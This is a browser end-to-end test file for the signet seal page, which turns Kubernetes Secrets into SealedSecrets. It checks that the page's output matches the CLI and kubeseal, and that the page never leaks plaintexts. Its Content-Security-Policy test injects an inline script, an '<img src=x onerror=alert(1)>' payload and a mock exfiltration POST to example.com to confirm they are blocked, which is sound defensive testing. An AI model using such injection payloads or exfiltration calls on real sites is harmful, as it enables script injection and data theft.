/// <reference types="node" />
/// <reference lib="dom" />
// The seal page in a real Chromium, served by the real `signet ui`: filled in as a user would,
// its output opened with the test private key by core's unseal and by the real
// `kubeseal --recovery-unseal`, compared with what `signet` prints, and every request it makes
// checked for the plaintext.
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import type { Browser } from "playwright-core";

import {
  decodeDocuments,
  generatePrivateKeyAndCert,
  parsePrivateKeyPem,
  unsealSealedSecret,
} from "@signet/core";
import type { SealedSecret, Secret } from "@signet/core";
import { servePage } from "@signet/web";

import { fixturesDir, runKubeseal, runSignet } from "../interop/reference-tools.js";
import { launchChromium } from "./chromium.js";
import {
  addItems,
  addMetadata,
  fillNewSecret,
  leaks,
  openSealPage,
  readOutput,
  SCREENSHOTS,
  screenshot,
  sealAndRead,
  startSignetUi,
} from "./page.js";
import type { SealPage, SecretInput, SignetUi } from "./page.js";

const KEY = join(fixturesDir, "keys", "test-only-sealing-key.pem");
const CERT = join(fixturesDir, "keys", "test-only-sealing-cert.pem");
const OTHER_KEY = join(fixturesDir, "keys", "test-only-other-key.pem");
const OTHER_CERT = join(fixturesDir, "keys", "test-only-other-cert.pem");
const EXPIRED_CERT = join(fixturesDir, "keys", "test-only-expired-cert.pem");
const FINGERPRINT = "SHA256:1x6UP+/17J8quVMn9jDZBJjO9NGD4pjHyvYij2GUQJI";

let browser: Browser;
let ui: SignetUi;
let dir: string;
/** Every plaintext typed or uploaded in this file: no request may carry any of them. */
const plaintexts: (string | Buffer)[] = [];
const pages: SealPage[] = [];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "signet-web-"));
  [browser, ui] = await Promise.all([launchChromium(), startSignetUi(["--cert", CERT])]);
});
afterAll(async () => {
  for (const p of pages) await p.close();
  await browser?.close();
  expect(await ui?.stop()).toBe(0);
  rmSync(dir, { recursive: true, force: true });
});

async function open(url = ui.url, options = {}): Promise<SealPage> {
  const p = await openSealPage(browser, url, options);
  pages.push(p);
  await p.page.waitForSelector("#cert-fingerprint");
  return p;
}

const secret = (tag: string): string => {
  const value = `pt-${tag}-${randomBytes(8).toString("hex")}`;
  plaintexts.push(value);
  return value;
};

/** kubeseal --recovery-unseal with `key`: the Secret's data, decoded. */
function kubesealOpens(yaml: string, key = KEY): Record<string, Buffer> {
  const run = runKubeseal(["--recovery-unseal", "--recovery-private-key", key, "-o", "json"], {
    input: yaml,
  });
  expect(run.stderr).toBe("");
  expect(run.status).toBe(0);
  const opened = JSON.parse(run.stdout) as Secret;
  return Object.fromEntries(
    Object.entries(opened.data ?? {}).map(([k, v]) => [k, Buffer.from(v, "base64")]),
  );
}

/** Core's unseal with `key`. */
function coreOpens(text: string, key = KEY): Record<string, Buffer> {
  const ss = decodeDocuments(text, "output")[0] as SealedSecret;
  const { secret: opened } = unsealSealedSecret(ss, {
    keys: [parsePrivateKeyPem(readFileSync(key, "utf8"))!],
    acceptDeprecatedV1Data: false,
  });
  return Object.fromEntries(
    Object.entries(opened.data ?? {}).map(([k, v]) => [k, Buffer.from(v, "base64")]),
  );
}

const texts = (data: Record<string, Buffer>): Record<string, string> =>
  Object.fromEntries(Object.entries(data).map(([k, v]) => [k, v.toString("utf8")]));

/** Ciphertexts change on every seal; everything else must be what `signet` prints. */
const masked = (text: string): string =>
  text.replace(/(["']?)(Ag[A-Za-z0-9+/=]{100,})\1/g, "<sealed>");

/** What `signet --cert CERT -o FORMAT [--scope ...]` prints for the same Secret. */
function signetPrints(input: SecretInput, format: "yaml" | "json"): string {
  const manifest: Secret = {
    apiVersion: "v1",
    kind: "Secret",
    metadata: {
      name: input.name,
      namespace: input.namespace,
      ...(input.labels && { labels: input.labels }),
      ...(input.annotations && { annotations: input.annotations }),
    },
    type: input.type ?? "Opaque",
    ...(input.immutable && { immutable: true }),
    stringData: Object.fromEntries(input.items.map((i) => [i.key!, "text" in i ? i.text : ""])),
  };
  const run = runSignet(["--cert", CERT, "-o", format, "--scope", input.scope ?? "strict"], {
    input: JSON.stringify(manifest),
  });
  expect(run.stderr).toBe("");
  return run.stdout;
}

describe("the seal page served by signet ui", () => {
  it("loads the certificate from the server and shows its fingerprint (signet's), subject and expiry", async () => {
    const p = await open();
    const hinted = runSignet([
      "--cert",
      CERT,
      "-o",
      "yaml",
      "--name",
      "a",
      "-n",
      "b",
      "--from-literal",
      "k=v",
    ]);
    expect(hinted.stdout).toContain(`signet.dev/sealed-with: ${FINGERPRINT}\n`);
    expect(await p.page.textContent("#cert-fingerprint")).toBe(FINGERPRINT);
    expect(await p.page.textContent("#cert-status")).toContain("Certificate from this server");
    expect(await p.page.textContent("#cert-status")).toContain("Subject(empty)");
    expect(await p.page.textContent("#cert-expiry")).toMatch(
      /^19 Nov 2036, 06:08 UTC \(in [\d,]+ days\)$/,
    );
    expect(await p.page.locator("#cert-warning").count()).toBe(0);
    expect(p.problems).toEqual([]);
  });

  it.each(["strict", "namespace-wide", "cluster-wide"] as const)(
    "seals a %s Secret that core and kubeseal --recovery-unseal open, printed as signet prints it",
    async (scope) => {
      const p = await open();
      const input: SecretInput = {
        name: "db-credentials",
        namespace: "shop",
        scope,
        type: "kubernetes.io/basic-auth",
        immutable: scope === "strict",
        items: [
          { key: "username", text: secret(`user-${scope}`) },
          { key: "password", text: `${secret(`pass-${scope}`)}\n` },
        ],
        labels: { "app.kubernetes.io/name": "shop", tier: "db" },
        annotations: { "example.com/owner": "team-a" },
      };
      await fillNewSecret(p.page, input);
      if (scope === "strict") await screenshot(p.page, "1-filled-form");
      p.phase(`seal ${scope}`);
      const out = await sealAndRead(p.page);
      if (scope === "strict") await screenshot(p.page, "2-sealed-output");
      expect(out.summary).toContain("2 values sealed for");
      expect(masked(out.yaml)).toBe(masked(signetPrints(input, "yaml")));
      expect(masked(out.json)).toBe(masked(signetPrints(input, "json")));
      expect(out.yaml).toContain(`signet.dev/sealed-with: ${FINGERPRINT}`);
      const expected = Object.fromEntries(
        input.items.map((i) => [i.key, "text" in i ? i.text : ""]),
      );
      expect(texts(kubesealOpens(out.yaml))).toEqual(expected);
      expect(texts(kubesealOpens(out.json))).toEqual(expected);
      expect(texts(coreOpens(out.yaml))).toEqual(expected);
      // Bound to its scope: moved elsewhere it does not open.
      const moved = out.yaml.replace(/namespace: shop/g, "namespace: bank");
      if (scope === "cluster-wide") expect(texts(kubesealOpens(moved))).toEqual(expected);
      else
        expect(
          runKubeseal(["--recovery-unseal", "--recovery-private-key", KEY], { input: moved })
            .status,
        ).not.toBe(0);
      expect(p.requests.filter((r) => r.phase === `seal ${scope}`)).toEqual([]);
      expect(p.problems).toEqual([]);
    },
  );

  it("seals a binary file byte for byte", async () => {
    const p = await open();
    const bytes = Buffer.concat([
      Buffer.from([0, 0xff, 0xfe, 0x80, 0x0a, 0x0d]),
      randomBytes(20_000),
    ]);
    plaintexts.push(bytes.subarray(6, 64));
    await fillNewSecret(p.page, {
      name: "tls-bundle",
      namespace: "web",
      items: [{ file: { name: "keystore.p12", bytes } }, { key: "note", text: secret("note") }],
    });
    expect(await p.page.inputValue("#item-n2-key")).toBe("keystore.p12");
    p.phase("seal binary");
    const out = await sealAndRead(p.page);
    await screenshot(p.page, "10-file-item");
    const opened = kubesealOpens(out.yaml);
    expect(opened["keystore.p12"]).toEqual(bytes);
    expect(coreOpens(out.json)["keystore.p12"]).toEqual(bytes);
    expect(p.requests.filter((r) => r.phase === "seal binary")).toEqual([]);
  });

  it("merges new values into a pasted kubeseal SealedSecret with its scope, keeping the rest", async () => {
    const username = secret("merge-user");
    const created = runKubeseal(["--cert", CERT, "-o", "yaml", "--scope", "namespace-wide"], {
      input: JSON.stringify({
        apiVersion: "v1",
        kind: "Secret",
        metadata: { name: "db", namespace: "shop" },
        stringData: { username, password: "old-password" },
      }),
    });
    expect(created.status).toBe(0);
    const existing = `# Database access, owned by team A\n${created.stdout}`;
    const oldUsername = /username: (\S+)/.exec(existing)![1]!;
    const p = await open();
    await p.page.click("#tab-merge");
    await p.page.fill("#merge-existing", existing);
    await p.page.waitForSelector("#merge-target-facts");
    expect(await p.page.textContent("#merge-target-facts")).toContain(
      "namespace-wide: new values are bound to shop/*",
    );
    const password = secret("merge-pass");
    await addItems(p.page, "m", [
      { key: "password", text: password },
      { key: "host", text: "db.shop" },
    ]);
    await addMetadata(p.page, "m", { team: "a" });
    p.phase("merge");
    const out = await sealAndRead(p.page, "#merge-seal");
    await screenshot(p.page, "4-merged");
    expect(out.summary).toContain(
      "2 values sealed for shop/* (namespace-wide, from the pasted SealedSecret) and merged in, replacing password; 1 value kept unchanged.",
    );
    expect(out.yaml.startsWith("# Database access, owned by team A\n")).toBe(true);
    expect(out.yaml).toContain(`username: ${oldUsername}`);
    expect(out.yaml).not.toContain("signet.dev/sealed-with");
    const expected = { username, password, host: "db.shop" };
    expect(texts(kubesealOpens(out.yaml))).toEqual(expected);
    expect(texts(coreOpens(out.json))).toEqual(expected);
    const merged = decodeDocuments(out.yaml, "out")[0] as SealedSecret;
    expect(merged.spec.template?.metadata?.labels).toEqual({ team: "a" });
    expect(p.requests.filter((r) => r.phase === "merge")).toEqual([]);
    // The same file as `signet --merge-into` writes for the same values (new ciphertexts aside).
    const file = join(dir, "merge-target.yaml");
    writeFileSync(file, existing);
    const cli = runSignet(["--cert", CERT, "--merge-into", file], {
      input: JSON.stringify({
        apiVersion: "v1",
        kind: "Secret",
        metadata: { name: "db", namespace: "shop", labels: { team: "a" } },
        stringData: { password, host: "db.shop" },
      }),
    });
    expect(cli.stderr).toBe("");
    expect(masked(out.yaml)).toBe(masked(readFileSync(file, "utf8")));
  });

  it("inspects pasted SealedSecrets without decrypting", async () => {
    const p = await open();
    const sealed = runSignet([
      "--cert",
      CERT,
      "-o",
      "yaml",
      "--name",
      "api",
      "-n",
      "shop",
      "--from-literal",
      "token=abc",
    ]).stdout;
    const foreign = runSignet([
      "--cert",
      OTHER_CERT,
      "-o",
      "yaml",
      "--name",
      "w",
      "-n",
      "x",
      "--scope",
      "cluster-wide",
      "--from-literal",
      "a=b",
    ]).stdout;
    await p.page.click("#tab-inspect");
    await p.page.fill("#inspect-text", `${sealed}${foreign}`);
    await p.page.waitForSelector("article.inspected >> nth=1");
    const cards = await p.page.locator("article.inspected").allTextContents();
    expect(cards[0]).toContain("SealedSecret shop/api");
    expect(cards[0]).toContain("strict (bound to shop/api)");
    expect(cards[0]).toContain(`${FINGERPRINT} (this certificate)`);
    expect(cards[0]).toMatch(/token\s*\d{3} bytes, RSA-4096/);
    expect(cards[1]).toContain("cluster-wide (opens under any name and namespace)");
    expect(cards[1]).toContain("(not this certificate)");
    await screenshot(p.page, "5-inspect");
    expect(await p.page.locator("text=/decrypted value|private key file/i").count()).toBe(0);
  });

  it("seals with a pasted or uploaded certificate instead of the server's", async () => {
    const p = await open();
    await p.page.click("#cert-other > summary");
    await p.page.fill("#cert-pem", readFileSync(OTHER_CERT, "utf8"));
    await p.page.click("#cert-use");
    await p.page.waitForFunction(
      (fp) => document.getElementById("cert-fingerprint")?.textContent !== fp,
      FINGERPRINT,
    );
    expect(await p.page.textContent("#cert-status")).toContain("Pasted certificate");
    const value = secret("other-cert");
    await fillNewSecret(p.page, { name: "a", namespace: "b", items: [{ key: "k", text: value }] });
    const out = await sealAndRead(p.page);
    expect(texts(kubesealOpens(out.yaml, OTHER_KEY))).toEqual({ k: value });
    expect(
      runKubeseal(["--recovery-unseal", "--recovery-private-key", KEY], { input: out.yaml }).status,
    ).not.toBe(0);
    // Upload the first one back from a file.
    await p.page.click("#cert-other > summary");
    await p.page.setInputFiles("#cert-file", CERT);
    await p.page.waitForFunction(
      (fp) => document.getElementById("cert-fingerprint")?.textContent === fp,
      FINGERPRINT,
    );
    expect(await p.page.textContent("#cert-status")).toContain("test-only-sealing-cert.pem");
  });

  it("refuses to seal with an expired certificate and warns before one expires", async () => {
    const p = await open();
    await p.page.click("#cert-other > summary");
    await p.page.setInputFiles("#cert-file", EXPIRED_CERT);
    await p.page.waitForSelector("#cert-warning");
    expect(await p.page.textContent("#cert-warning")).toContain(
      "failed to encrypt using an expired certificate on January 1, 2021",
    );
    await fillNewSecret(p.page, {
      name: "a",
      namespace: "b",
      items: [{ key: "k", text: secret("expired") }],
    });
    await p.page.click("#new-seal");
    await p.page.waitForSelector("#new-problems:not([hidden])");
    expect(await p.page.textContent("#new-problems")).toContain(
      "failed to encrypt using an expired certificate on January 1, 2021",
    );
    expect(await p.page.getAttribute("#output", "data-state")).toBe("empty");
    await screenshot(p.page, "6-expired-certificate");

    const soon = await generatePrivateKeyAndCert({
      keySize: 2048,
      now: new Date(Date.now() - 86_400_000),
      validForMs: 11 * 86_400_000,
      random: randomBytes,
    });
    writeFileSync(join(dir, "soon.pem"), soon.certificatePem);
    await p.page.click("#cert-other > summary");
    await p.page.setInputFiles("#cert-file", join(dir, "soon.pem"));
    await p.page.waitForFunction(() =>
      document.getElementById("cert-warning")?.textContent?.includes("Expires in"),
    );
    expect(await p.page.textContent("#cert-warning")).toMatch(/Expires in (9|10) days/);
    await sealAndRead(p.page);
  });

  it("shows each problem next to its field and in a summary that links to it", async () => {
    const p = await open();
    await p.page.fill("#name", "Bad Name");
    await addItems(p.page, "n", [
      { key: "a/b", text: "x" },
      { key: "a/b", text: "y" },
    ]);
    await p.page.click("#new-seal");
    await p.page.waitForSelector("#new-problems:not([hidden])");
    expect(await p.page.evaluate(() => document.activeElement?.id)).toBe("new-problems");
    const summary = (await p.page.textContent("#new-problems")) ?? "";
    expect(summary).toContain("Fix 4 problems to seal");
    expect(summary).toContain("Name: Use lower-case letters");
    expect(summary).toContain("Namespace: Enter a namespace.");
    expect(summary).toContain("Key of value 1: Use letters, digits, '-', '_' and '.' only.");
    expect(await p.page.getAttribute("#name", "aria-invalid")).toBe("true");
    expect(await p.page.textContent("#name-error")).toContain("Use lower-case letters");
    await screenshot(p.page, "3-problems");
    await p.page.click("#new-problems a >> nth=0");
    expect(await p.page.evaluate(() => document.activeElement?.id)).toBe("name");
  });

  it("can be used with the keyboard alone", async () => {
    const p = await open();
    const k = p.page.keyboard;
    await p.page.focus("#name");
    await k.type("kb-secret");
    await k.press("Tab");
    await k.type("shop");
    await k.press("Tab"); // scope: strict
    await k.press("ArrowDown"); // namespace-wide
    expect(await p.page.isChecked('input[value="namespace-wide"]')).toBe(true);
    await k.press("Tab"); // type
    await k.press("Tab"); // immutable
    await k.press("Space");
    await k.press("Tab"); // first key
    await k.type("token");
    await k.press("Tab");
    const value = secret("keyboard");
    await k.type(value);
    await k.press("Tab"); // remove
    await k.press("Tab"); // add value
    await k.press("Enter");
    expect(await p.page.evaluate(() => document.activeElement?.id)).toBe("item-n2-key");
    await k.type("second");
    await k.press("Tab");
    await k.type("two");
    await p.page.focus("#new-seal");
    await k.press("Enter");
    await p.page.waitForSelector('#output[data-state="ready"]');
    expect(await p.page.evaluate(() => document.activeElement?.id)).toBe("output-heading");
    const out = await readOutput(p.page);
    expect(texts(kubesealOpens(out.yaml))).toEqual({ token: value, second: "two" });
    expect(out.yaml).toContain("immutable: true");
    expect(out.yaml).toContain("sealedsecrets.bitnami.com/namespace-wide");
    // Mode tabs follow the arrow keys.
    await p.page.focus("#tab-new");
    await k.press("ArrowRight");
    expect(await p.page.evaluate(() => document.activeElement?.id)).toBe("tab-merge");
    expect(await p.page.isVisible("#panel-merge")).toBe(true);
    expect(await p.page.isHidden("#panel-new")).toBe(true);
  });

  it("copies and downloads the output in the format shown", async () => {
    const p = await open(ui.url, { permissions: ["clipboard-read", "clipboard-write"] });
    await fillNewSecret(p.page, {
      name: "api",
      namespace: "shop",
      items: [{ key: "token", text: secret("copy") }],
    });
    const out = await sealAndRead(p.page);
    await p.page.click("#output-copy");
    await p.page.waitForFunction(() => document.getElementById("announce")?.textContent !== "");
    expect(await p.page.evaluate(() => navigator.clipboard.readText())).toBe(out.yaml);
    const [yamlFile] = await Promise.all([
      p.page.waitForEvent("download"),
      p.page.click("#output-download"),
    ]);
    expect(yamlFile.suggestedFilename()).toBe("api.sealed.yaml");
    expect(readFileSync(await yamlFile.path(), "utf8")).toBe(out.yaml);
    await p.page.click("#output-json");
    const [jsonFile] = await Promise.all([
      p.page.waitForEvent("download"),
      p.page.click("#output-download"),
    ]);
    expect(jsonFile.suggestedFilename()).toBe("api.sealed.json");
    expect(readFileSync(await jsonFile.path(), "utf8")).toBe(out.json);
    expect(texts(kubesealOpens(readFileSync(await jsonFile.path(), "utf8")))).toHaveProperty(
      "token",
    );
  });

  it("offers the keys a built-in type needs and blocks sealing without them", async () => {
    const p = await open();
    await p.page.fill("#name", "tls");
    await p.page.fill("#namespace", "web");
    await p.page.fill("#type", "kubernetes.io/tls");
    expect(await p.page.textContent("#type-hint")).toContain('Needs "tls.crt" and "tls.key".');
    await p.page.click("#type-hint button");
    expect(await p.page.inputValue("#item-n1-key")).toBe("tls.crt");
    expect(await p.page.inputValue("#item-n2-key")).toBe("tls.key");
    await p.page.fill("#item-n2-key", "other");
    await p.page.fill("#item-n1-value", "cert");
    await p.page.click("#new-seal");
    await p.page.waitForSelector("#new-problems:not([hidden])");
    expect(await p.page.textContent("#type-error")).toBe(
      'A kubernetes.io/tls Secret needs "tls.key".',
    );
  });

  it("labels every control", async () => {
    const p = await open();
    await p.page.click("#nadd-file");
    const unlabelled = await p.page.evaluate(() =>
      [...document.querySelectorAll("input, textarea, button, select")]
        .filter((el) => {
          const e = el as HTMLInputElement;
          const name =
            e.getAttribute("aria-label") ?? (e.labels?.length ? "label" : e.textContent?.trim());
          return !name;
        })
        .map((el) => el.outerHTML.slice(0, 80)),
    );
    expect(unlabelled).toEqual([]);
  });

  it("is readable at phone width, without sideways scrolling", async () => {
    const p = await open(ui.url, {
      viewport: { width: 375, height: 812 },
      isMobile: true,
      hasTouch: true,
    });
    expect(await p.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      375,
    );
    await fillNewSecret(p.page, {
      name: "api",
      namespace: "shop",
      items: [{ key: "token", text: secret("phone") }],
    });
    await screenshot(p.page, "7-phone-form");
    await sealAndRead(p.page);
    expect(await p.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      375,
    );
    await screenshot(p.page, "8-phone-output");
  });

  it("keeps nothing: no cookies, no web storage, no service worker, no cache", async () => {
    const p = await open();
    await fillNewSecret(p.page, {
      name: "a",
      namespace: "b",
      items: [{ key: "k", text: secret("storage") }],
    });
    await sealAndRead(p.page);
    const kept = await p.page.evaluate(async () => ({
      cookie: document.cookie,
      local: localStorage.length,
      session: sessionStorage.length,
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(kept).toEqual({ cookie: "", local: 0, session: 0, databases: 0, caches: 0, workers: 0 });
    expect(await p.page.context().cookies()).toEqual([]);
  });

  it("runs under its CSP: no injected script, no request or resource from another origin", async () => {
    // Its own page: the requests the injected elements attempt are not the page's own.
    const p = await openSealPage(browser, ui.url);
    onTestFinished(() => p.close());
    const csp = (await p.page.request.get(`${ui.url}`)).headers()["content-security-policy"] ?? "";
    const directives = new Map(
      csp.split(";").map((d) => {
        const [name, ...values] = d.trim().split(/\s+/);
        return [name!, values.join(" ")];
      }),
    );
    expect(directives.get("script-src")).toBe("'self'");
    expect(directives.get("connect-src")).toBe("'self'");
    expect(directives.get("frame-ancestors")).toBe("'none'");
    expect(directives.get("default-src")).toBe("'none'");
    expect(directives.get("require-trusted-types-for")).toBe("'script'");
    const expected = ["connect-src", "frame-src", "img-src", "require-trusted-types-for"];
    const outcome = await p.page.evaluate(async (expected) => {
      const violated: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        violated.push(e.effectiveDirective),
      );
      const results: string[] = [];
      try {
        const script = document.createElement("script");
        script.textContent = "window.injected = true";
        document.body.append(script);
        results.push("inline script added");
      } catch {
        results.push("inline script refused");
      }
      try {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>");
        results.push("HTML parsed");
      } catch {
        results.push("HTML refused");
      }
      try {
        await fetch("https://example.com/collect", { method: "POST", body: "x" });
        results.push("fetch sent");
      } catch {
        results.push("fetch refused");
      }
      const img = new Image();
      img.src = "https://example.com/pixel.png";
      const frame = document.createElement("iframe");
      frame.src = "https://example.com/";
      document.body.append(frame);
      // The image's and the frame's violations are reported asynchronously (frame-src by the
      // browser process once the navigation began): waited for up to 30 s rather than a fixed
      // 500 ms that a loaded machine could outlast. One that never comes still fails below.
      const deadline = performance.now() + 30_000;
      while (!expected.every((d) => violated.includes(d)) && performance.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return { results, violated: [...new Set(violated)].sort() };
    }, expected);
    expect(outcome.results).toEqual(["inline script refused", "HTML refused", "fetch refused"]);
    expect(outcome.violated).toEqual(expect.arrayContaining(expected));
    expect(await p.page.evaluate(() => "injected" in window)).toBe(false);
  });

  it("seals with the network gone once it has loaded (nothing from a CDN, nothing sent)", async () => {
    const p = await open();
    await p.page.context().setOffline(true);
    // Nothing answers now, not even the server that served the page.
    expect(
      await p.page.evaluate(() =>
        fetch("../v1/cert.pem").then(
          () => "answered",
          () => "offline",
        ),
      ),
    ).toBe("offline");
    await p.page.click("#cert-other > summary");
    await p.page.fill("#cert-pem", readFileSync(OTHER_CERT, "utf8"));
    await p.page.click("#cert-use");
    await p.page.waitForFunction(() =>
      document.getElementById("cert-status")?.textContent?.includes("Pasted certificate"),
    );
    const value = secret("offline");
    await fillNewSecret(p.page, {
      name: "offline",
      namespace: "b",
      items: [{ key: "k", text: value }],
    });
    p.phase("seal offline");
    const out = await sealAndRead(p.page);
    expect(texts(kubesealOpens(out.yaml, OTHER_KEY))).toEqual({ k: value });
    expect(p.requests.filter((r) => r.phase === "seal offline")).toEqual([]);
  });

  it("refuses to be shown in a frame of another page (frame-ancestors 'none')", async () => {
    // A page on another origin (another port) that frames the seal page.
    const framer = createServer((_req, res) => {
      res.writeHead(200, { "Content-Type": "text/html" });
      res.end(`<!doctype html><title>framer</title><iframe id="f" src="${ui.url}"></iframe>`);
    });
    await new Promise<void>((resolve) => framer.listen(0, "127.0.0.1", resolve));
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const refused: string[] = [];
      page.on("console", (m) => {
        if (/frame-ancestors|Refused to (display|frame)/i.test(m.text())) refused.push(m.text());
      });
      const seen = new Set<string>();
      page.on("response", (r) => {
        if (r.url().startsWith(ui.url)) seen.add(r.url());
      });
      await page.goto(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
      await page.waitForFunction(() => document.querySelector("iframe") !== null);
      // The browser fetched the page for the frame, then refused to show it.
      await expect.poll(() => refused.length, { timeout: 30_000 }).toBeGreaterThan(0);
      expect(seen.has(ui.url)).toBe(true);
      const frame = page.frames().find((f) => f !== page.mainFrame());
      expect(frame?.url()).not.toBe(ui.url);
      // None of the page's own script or styles were loaded into the frame.
      expect([...seen].filter((u) => /app\.(js|css)$/.test(u))).toEqual([]);
      expect(await page.title()).toBe("framer");
    } finally {
      await context.close();
      framer.close();
    }
  });

  it("refuses to seal where the browser offers no WebCrypto (plain HTTP on another host)", async () => {
    // signet ui answers only for 127.0.0.1 and localhost (DNS rebinding)...
    const other = await launchChromium({
      args: ["--host-resolver-rules=MAP sealer.test 127.0.0.1"],
    });
    const plain = createServer((req, res) => {
      if (!servePage(req, res)) res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => plain.listen(0, "127.0.0.1", resolve));
    try {
      const page = await (await other.newContext()).newPage();
      const refused = await page.goto(`http://sealer.test:${new URL(ui.url).port}/ui/`);
      expect(refused?.status()).toBe(421);
      // ...and the page, served over plain HTTP on a non-local name, is no secure context.
      await page.goto(`http://sealer.test:${(plain.address() as AddressInfo).port}/ui/`);
      await page.waitForSelector("#no-webcrypto:not([hidden])");
      await page.fill("#name", "a");
      await page.click("#new-seal");
      await page.waitForSelector("#new-problems:not([hidden])");
      expect(await page.textContent("#new-problems")).toContain(
        "open the page over HTTPS or on localhost",
      );
      await screenshot(page, "9-no-webcrypto");
    } finally {
      plain.close();
      await other.close();
    }
  });
});

describe("the README screenshot", () => {
  it("shows the certificate, a filled form and its SealedSecret side by side", async () => {
    const p = await open(ui.url, { viewport: { width: 1180, height: 1240 } });
    await fillNewSecret(p.page, {
      name: "db-credentials",
      namespace: "shop",
      items: [
        { key: "username", text: "shop-app" },
        { key: "password", text: "correct-horse-battery-staple" },
      ],
    });
    plaintexts.push("correct-horse-battery-staple");
    const out = await sealAndRead(p.page);
    expect(texts(kubesealOpens(out.yaml)).username).toBe("shop-app");
    await p.page.evaluate(() => window.scrollTo(0, 0));
    mkdirSync(SCREENSHOTS, { recursive: true });
    // Down to the first value row; packages/web/docs/seal-page.png is this, quantised with pngquant.
    await p.page.screenshot({
      path: join(SCREENSHOTS, "readme.png"),
      clip: { x: 0, y: 0, width: 1180, height: 1130 },
    });
  });
});

describe("what the page sent", () => {
  it("never carried a plaintext or its base64, and only read its own files and the certificate", () => {
    const all = pages.flatMap((p) => p.requests);
    expect(all.length).toBeGreaterThan(0);
    expect(leaks(all, plaintexts)).toEqual([]);
    const origin = new URL(ui.url).origin;
    const unexpected = all.filter(
      (r) =>
        r.method !== "GET" ||
        !r.url.startsWith(origin) ||
        !/^\/(ui\/(app\.js|app\.css|icon\.svg)?|v1\/cert\.pem)$/.test(new URL(r.url).pathname),
    );
    expect(unexpected.map((r) => `${r.method} ${r.url}`)).toEqual([]);
    expect(all.every((r) => r.body === "")).toBe(true);
  });
});
